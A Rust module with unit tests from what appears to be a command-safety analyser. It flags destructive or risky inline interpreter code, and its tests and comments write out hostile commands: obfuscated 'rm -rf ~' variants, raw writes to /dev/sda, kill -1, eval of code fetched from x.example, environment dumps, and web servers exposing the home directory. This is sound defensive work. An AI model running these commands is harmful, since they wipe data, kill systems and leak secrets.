//! What inline interpreter code reaches beyond `code_scan`'s call tables,
//! in any language: a block device opened for writing (Perl's
//! `open(D, ">", "/dev/sda")`, PHP's `file_put_contents`, awk's
//! `printf … > "/dev/sda"`, Lua's `io.open(…, "w")`), a signal sent to
//! every process or PID 1 (`kill 9, -1`, `os.kill(-1, …)`,
//! `process.kill(1, "SIGKILL")`, `Process.kill("KILL", -1)`), fetched code evaluated without parentheses
//! (`eval URI.open(…).read`, `eval get(…)`), and the built-in web servers
//! of interpreters (`ruby -run -e httpd DIR`, `php -S ADDR -t DIR`), which
//! serve a directory like `http-server DIR`.

use super::Cmd;
use crate::effects::Effect;
use crate::engine::Walker;

/// Marks of a write in code that also names a block device: an open mode
/// (`"w"`, `'wb'`, `"r+"`, `">"`), a redirection to a quoted path (awk), or a
/// writing call.
const WRITE_MARKS: &[&str] = &[
    "\"w",
    "'w",
    "\"r+",
    "'r+",
    "\"a\"",
    "'a'",
    "\"ab\"",
    "'ab'",
    "\">\"",
    "'>'",
    "\">>\"",
    "'>>'",
    "> \"",
    ">\"",
    "> '",
    ">'",
    "file_put_contents",
    "writeFile",
    "File.write",
    "fwrite",
    "syswrite",
    ":write(",
    ".write(",
    "truncate(",
];

/// Perl and Ruby functions that build a string at run time.
pub(crate) const STRING_BUILDERS: &[&str] = &[
    "scalar", "reverse", "join", "sprintf", "pack", "lc", "uc", "chr", "map", "decode", "qq",
];

/// A command line from interpreter code with the home directory spelled
/// the shell's way (`$ENV{HOME}`, `$ENV{'HOME'}`, `#{ENV['HOME']}`,
/// Tcl's `$env(HOME)`, `${HOME}` stay `$HOME`).
pub(crate) fn shell_home(cmd: &str) -> String {
    let mut out = cmd.to_string();
    for spelled in [
        "$ENV{HOME}",
        "$ENV{'HOME'}",
        "$ENV{\"HOME\"}",
        "#{ENV['HOME']}",
        "#{ENV[\"HOME\"]}",
        "#{Dir.home}",
        "$env(HOME)",
        "$::env(HOME)",
    ] {
        out = out.replace(spelled, "$HOME");
    }
    out
}

/// Code that prints or hands over the whole environment (`console.log(
/// process.env)`, `print(os.environ)`, Ruby's `p ENV`, Perl's `%ENV`),
/// like a bare `env`: every variable, which may include secrets.
fn dumps_env(kind: &str, code: &str) -> bool {
    let whole = |pat: &str| {
        code.match_indices(pat).any(|(k, _)| {
            let before = code[..k].chars().next_back();
            let rest = &code[k + pat.len()..];
            !before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.')
                && (rest.is_empty()
                    || rest.starts_with([')', ';', ',', ' ', '}', '\n', ']'])
                    || [
                        ".items", ".copy", ".values", ".to_h", ".to_a", ".each", ".inspect",
                    ]
                    .iter()
                    .any(|m| rest.starts_with(m)))
        })
    };
    whole("process.env")
        || whole("os.environ")
        || code.contains("Deno.env.toObject")
        || kind == "ruby" && whole("ENV")
        || matches!(kind, "perl" | "php") && (code.contains("%ENV") || whole("$_ENV"))
        || kind == "php" && code.contains("getenv()")
}

/// Scan inline code of `kind` for the effects above.
pub(crate) fn scan(e: &mut Walker, kind: &str, code: &str) {
    device_write(e, code);
    if matches!(kind, "perl" | "ruby") {
        quoted_spawn(e, kind, code);
    }
    looked_up_spawn(e, kind, code);
    looked_up_delete(e, code);
    if dumps_env(kind, code) {
        e.add(Effect::Change {
            program: kind.into(),
            what: "prints every environment variable, which may include secrets".into(),
        });
    }
    kill_everything(e, kind, code);
    fetch_eval(e, kind, code);
}

/// A block device named in the code together with a mark of writing.
fn device_write(e: &mut Walker, code: &str) {
    for lit in super::code_scan::literals(code) {
        let path = lit.trim_start_matches(['+', '>', '<', ' ']);
        let path = path.split_whitespace().next().unwrap_or("");
        if !crate::paths::is_block_device(path) {
            continue;
        }
        let mode_in_literal = lit.starts_with('>') || lit.starts_with("+<");
        if mode_in_literal || WRITE_MARKS.iter().any(|m| code.contains(m)) {
            e.add(Effect::Overwrite {
                path: path.to_string(),
                append: false,
            });
            return;
        }
    }
}

/// A spawning function looked up by name (`getattr(__import__('os'),
/// 'system')('rm -rf ~')`, `Kernel.send(:system, …)`): the other string
/// literals with a space are the command lines it runs.
fn looked_up_spawn(e: &mut Walker, kind: &str, code: &str) {
    if !["getattr(", ".send(", "method(", "__getattribute__("]
        .iter()
        .any(|k| code.contains(k))
    {
        return;
    }
    let lits = super::code_scan::literals(code);
    let spawner = |l: &str| {
        matches!(
            l.trim_start_matches(':'),
            "system"
                | "popen"
                | "spawn"
                | "exec"
                | "execl"
                | "execlp"
                | "call"
                | "run"
                | "check_output"
                | "check_call"
                | "getoutput"
        )
    };
    if !lits.iter().any(|l| spawner(l)) && !code.contains("(:system") {
        return;
    }
    let via = vec![format!("{kind} looked-up spawn")];
    for cmd in lits.iter().filter(|l| l.contains(' ')).take(8) {
        e.run_script(cmd, &via, 1, &crate::engine::Stdin::Terminal);
    }
}

/// A deleting function looked up by name (`getattr(__import__('shutil'),
/// 'rmtree')('/var/lib/docker')`, `FileUtils.send(:rm_rf, …)`): every
/// path-like string literal is deleted.
fn looked_up_delete(e: &mut Walker, code: &str) {
    if !["getattr(", ".send(", "method(", "__getattribute__("]
        .iter()
        .any(|k| code.contains(k))
    {
        return;
    }
    let lits = super::code_scan::literals(code);
    let named = |l: &str| {
        let l = l.trim_start_matches(':');
        matches!(
            l,
            "rmtree" | "rm_rf" | "rm_r" | "remove_dir_all" | "removedirs"
        ) || matches!(l, "remove" | "unlink" | "rmdir" | "rm")
    };
    let recursive = lits.iter().any(|l| {
        matches!(
            l.trim_start_matches(':'),
            "rmtree" | "rm_rf" | "rm_r" | "remove_dir_all"
        )
    }) || code.contains("(:rm_rf")
        || code.contains(":rm_rf");
    if !lits.iter().any(|l| named(l)) && !code.contains(":rm_rf") {
        return;
    }
    for l in lits
        .iter()
        .filter(|l| l.starts_with(['/', '~', '.']) || l.contains('/'))
        .take(8)
    {
        let p = e.path(&super::code_scan::expand_user(l, &e.home));
        e.add(Effect::Delete { path: p, recursive });
    }
}

/// The body of a quote-like operator starting at `from` (`qx(ls)`,
/// `q{rm -rf ~}`, `qx/ls/`): bracket pairs nest, any other character
/// closes itself.
pub(crate) fn quote_like(code: &str, from: usize) -> Option<String> {
    let rest = code.get(from..)?;
    let open = rest.chars().next()?;
    let close = match open {
        '(' => ')',
        '{' => '}',
        '[' => ']',
        '<' => '>',
        c if c.is_ascii_punctuation() => c,
        _ => return None,
    };
    let mut depth = 0usize;
    for (k, ch) in rest.char_indices().skip(1) {
        if ch == open && open != close {
            depth += 1;
        } else if ch == close {
            if depth == 0 {
                return Some(rest[1..k].to_string());
            }
            depth -= 1;
        }
    }
    None
}

/// Perl's and Ruby's `system q{…}`, `exec qq(…)`, `system %q(…)`: the
/// quoted command is a shell line.
fn quoted_spawn(e: &mut Walker, kind: &str, code: &str) {
    let via = vec![format!("{kind} system q{{…}}")];
    for spawn in ["system", "exec"] {
        for (at, _) in code.match_indices(spawn) {
            let rest = code[at + spawn.len()..].trim_start_matches([' ', '(']);
            let offset = code.len() - rest.len();
            for pre in ["qq", "q", "%Q", "%q"] {
                if rest.starts_with(pre)
                    && let Some(cmd) = quote_like(code, offset + pre.len())
                {
                    let cmd = shell_home(&cmd);
                    e.run_script(&cmd, &via, 1, &crate::engine::Stdin::Terminal);
                    break;
                }
            }
        }
    }
}

/// A `kill` call (any language) whose target is `-1`: every process the
/// user may signal.
fn kill_everything(e: &mut Walker, kind: &str, code: &str) {
    let squeezed: String = code
        .chars()
        .filter(|c| !c.is_whitespace() && *c != '"' && *c != '\'')
        .collect();
    for (at, _) in squeezed.match_indices("kill") {
        let tail = &squeezed[at + 4..];
        let end = tail.find([';', '}', '\n']).unwrap_or(tail.len());
        let args: Vec<&str> = tail[..end]
            .split([',', '(', ')'])
            .filter(|t| !t.is_empty())
            .collect();
        if args.contains(&"-1") {
            e.add(Effect::Power {
                what: format!("{kind} code kills every process (kill -1)"),
            });
            return;
        }
        // PID 1 (init): the first argument in most languages, after the
        // signal in Perl and Ruby; signal 0 only probes.
        let pids = if matches!(kind, "perl" | "ruby") {
            args.get(1..).unwrap_or(&[])
        } else {
            args.get(..1).unwrap_or(&[])
        };
        if pids.contains(&"1") && !args.contains(&"0") {
            e.add(Effect::Power {
                what: format!("{kind} code kills PID 1 (init)"),
            });
            return;
        }
    }
}

/// Fetched text handed to `eval` spelled without parentheses (Ruby, Perl)
/// or to Lua's `load`.
fn fetch_eval(e: &mut Walker, kind: &str, code: &str) {
    // `eval get("https://…")`: LWP::Simple's `get`, loaded by `-M`.
    let fetches = super::code_scan::NET_GET.iter().any(|n| code.contains(n))
        || code.contains("get(")
            && super::code_scan::literals(code)
                .iter()
                .any(|l| l.starts_with("http://") || l.starts_with("https://"));
    let evals = ["eval ", "instance_eval", "loadstring(", "load("]
        .iter()
        .any(|k| code.contains(k));
    if fetches && evals {
        e.add(Effect::DownloadExec {
            source: super::code_scan::literal_host(code),
            interpreter: kind.into(),
        });
    }
}

/// `ruby -run -e httpd DIR` and `php -S ADDR [-t DIR]`: an interpreter's
/// built-in web server, judged like `http-server DIR` (serving the project
/// is a change, serving home or `/` sends its files to anyone). Returns
/// whether `c` was one.
pub(crate) fn builtin_server(e: &mut Walker, c: &Cmd, kind: &str) -> bool {
    let args: Vec<&str> = c.args.iter().map(|w| w.text.as_str()).collect();
    let dir = match kind {
        "ruby" if args.contains(&"-run") => {
            let Some(k) = args.iter().position(|a| *a == "httpd") else {
                return false;
            };
            let mut rest = args[k + 1..].iter();
            let mut dir = ".";
            while let Some(a) = rest.next() {
                if matches!(*a, "-p" | "--port" | "-b" | "--bind-address") {
                    rest.next();
                } else if !a.starts_with('-') {
                    dir = a;
                    break;
                }
            }
            dir.to_string()
        }
        "php" if args.contains(&"-S") => c
            .opt(&["-t"])
            .map(|w| w.text.clone())
            .unwrap_or_else(|| ".".into()),
        _ => return false,
    };
    super::net::serve_dir(e, c, &dir)
}

#[cfg(test)]
mod tests {
    use crate::testutil::expect;

    #[test]
    fn block_devices_written_from_any_language() {
        expect(&[
            (
                r#"perl -e 'open(my $d, ">", "/dev/sda"); print $d "x"'"#,
                "catastrophic",
            ),
            (
                r#"php -r 'file_put_contents("/dev/nvme0n1", "x");'"#,
                "catastrophic",
            ),
            (r#"awk 'BEGIN{printf "x" > "/dev/sdb"}'"#, "catastrophic"),
            (
                r#"lua -e 'io.open("/dev/sda","w"):write("x")'"#,
                "catastrophic",
            ),
            (
                r#"perl -e 'open(D, ">/dev/sdc"); print D 1'"#,
                "catastrophic",
            ),
            (
                r#"python3 -c "print(open('/dev/sda','rb').read(16))""#,
                "safe",
            ),
        ]);
    }

    #[test]
    fn killing_every_process_from_code() {
        expect(&[
            ("perl -e 'kill 9, -1'", "catastrophic"),
            ("python3 -c 'import os; os.kill(-1, 9)'", "catastrophic"),
            (r#"node -e "process.kill(-1)""#, "catastrophic"),
            (r#"ruby -e 'Process.kill("TERM", -1)'"#, "catastrophic"),
            ("perl -e 'kill 0, 1234'", "safe"),
            (r#"node -e 'process.kill(1, "SIGKILL")'"#, "catastrophic"),
            ("perl -e 'system qq{rm -rf $ENV{HOME}}'", "catastrophic"),
            (
                "ruby -e 'system(\"rm -rf #{ENV[\"HOME\"]}\")'",
                "catastrophic",
            ),
            ("perl -e '`rm -rf $ENV{HOME}/`'", "catastrophic"),
            (
                "perl -e 'system scalar reverse(\"~ fr- mr\")'",
                "catastrophic",
            ),
            (
                "perl -e 'system join(\" \", \"rm\", \"-rf\", \"/\")'",
                "catastrophic",
            ),
            ("perl -e 'print \"the system is up\"'", "safe"),
            ("tclsh <<< 'exec rm -rf $env(HOME)'", "catastrophic"),
            (
                "python3 -c \"getattr(__import__('shutil'), 'rmtree')('/var/lib/docker')\"",
                "catastrophic",
            ),
            (
                "python3 -c \"getattr(__import__('os'), 'remove')('build/x.o')\"",
                "ambiguous",
            ),
            ("echo 'exec ls -la' | tclsh", "safe"),
            ("node -e 'console.log(process.env)'", "ambiguous"),
            (
                "python3 -c 'import os; print(dict(os.environ))'",
                "ambiguous",
            ),
            ("ruby -e 'p ENV'", "ambiguous"),
            (
                "perl -e 'print \"$_=$ENV{$_}\\n\" for keys %ENV'",
                "ambiguous",
            ),
            ("node -e 'console.log(process.env.NODE_ENV)'", "safe"),
            (
                "python3 -c 'import os; print(os.environ[\"HOME\"])'",
                "safe",
            ),
            ("cargo yank --version 0.3.1 kintsugi", "ambiguous"),
            ("cargo --version", "safe"),
            (
                "python3 -c 'import os, signal; os.kill(1, signal.SIGTERM)'",
                "catastrophic",
            ),
            ("perl -e 'kill 9, 1'", "catastrophic"),
            ("perl -e 'kill 1, 4242'", "safe"),
            ("node -e 'process.kill(1, 0)'", "safe"),
        ]);
    }

    #[test]
    fn fetched_code_evaluated_without_parentheses() {
        expect(&[
            (
                r#"ruby -ropen-uri -e 'eval URI.open("https://x.example/a").read'"#,
                "catastrophic",
            ),
            (
                r#"perl -MLWP::Simple -e 'eval get("https://x.example/a")'"#,
                "catastrophic",
            ),
            (
                r#"perl -MLWP::Simple -e 'print get("https://x.example/a")'"#,
                "safe",
            ),
        ]);
    }

    #[test]
    fn interpreters_builtin_web_servers() {
        expect(&[
            ("ruby -run -e httpd ~ -p 8000", "catastrophic"),
            ("ruby -run -e httpd / --port 9000", "catastrophic"),
            ("php -S 0.0.0.0:8000 -t ~", "catastrophic"),
            ("php -S localhost:8000 -t public", "ambiguous"),
            ("ruby -run -e httpd . -p 8000", "ambiguous"),
            ("python3 -m http.server 8000", "ambiguous"),
            ("python3 -m http.server -d / 8000", "catastrophic"),
            ("python3 -m http.server --directory ~", "catastrophic"),
        ]);
    }

    #[test]
    fn spawners_looked_up_by_name_and_truncated_devices() {
        expect(&[
            (
                r#"python3 -c "getattr(__import__('os'), 'system')('rm -rf ~')""#,
                "catastrophic",
            ),
            (
                r#"python3 -c "getattr(__import__('os'), 'getcwd')()""#,
                "safe",
            ),
            (
                "python3 -c \"import os; os.truncate('/dev/sda', 0)\"",
                "catastrophic",
            ),
            (
                r#"perl -e 'eval pack("H*", "73797374656d2822726d202d7266207e2229")'"#,
                "catastrophic",
            ),
            ("xargs -I{} sh -c '{}' <<< 'rm -rf ~'", "catastrophic"),
            ("printf 'rm -rf ~\\n' | xargs -I% bash -c %", "catastrophic"),
            ("echo src | xargs -I{} ls {}", "safe"),
            ("perl -le 'system q{rm -rf ~}'", "catastrophic"),
            ("perl -e 'print qx(ls -la)'", "safe"),
            ("perl -e 'qx{rm -rf ~}'", "catastrophic"),
            ("ruby -e 'system %q(rm -rf ~)'", "catastrophic"),
            (
                "python3 -c \"import subprocess as sp; sp.Popen('rm -rf ~', shell=True)\"",
                "catastrophic",
            ),
        ]);
    }
}
